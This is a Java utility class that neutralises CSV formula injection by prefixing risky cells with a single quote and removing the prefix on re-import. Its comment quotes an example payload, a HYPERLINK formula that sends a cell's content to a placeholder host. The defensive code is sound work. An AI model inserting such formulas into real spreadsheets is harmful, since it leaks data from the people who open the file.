package id.lapor.system;

/**
 * The one rule for text that goes into a CSV file a spreadsheet program will open. A cell starting with {@code =},
 * {@code +}, {@code -}, {@code @}, a tab or a carriage return is read as a formula by Excel, LibreOffice and Google
 * Sheets, even when the CSV quotes it: a report titled {@code =HYPERLINK("http://x/?"&A1,"klik")} would run on the
 * supervisor's computer. Such text is prefixed with a single quote (OWASP "CSV injection"), which the programs show
 * as text. Only text goes through here; numbers a table computes are written as numbers.
 */
public final class SpreadsheetCells {

	private static final char NEUTRALISER = '\'';

	private SpreadsheetCells() {
	}

	/** The text as a CSV cell: unchanged, or prefixed with {@code '} when a spreadsheet would run it. */
	public static String csvText(String text) {
		return startsAFormula(text) ? NEUTRALISER + text : text;
	}

	/**
	 * A cell of a CSV file this application wrote, read back: the prefix {@link #csvText} added is removed, so an
	 * export imported again changes nothing.
	 */
	public static String fromCsv(String cell) {
		return cell.length() > 1 && cell.charAt(0) == NEUTRALISER && startsAFormula(cell.substring(1))
				? cell.substring(1) : cell;
	}

	static boolean startsAFormula(String text) {
		if (text.isEmpty()) {
			return false;
		}
		return switch (text.charAt(0)) {
			case '=', '+', '-', '@', '\t', '\r' -> true;
			default -> false;
		};
	}
}
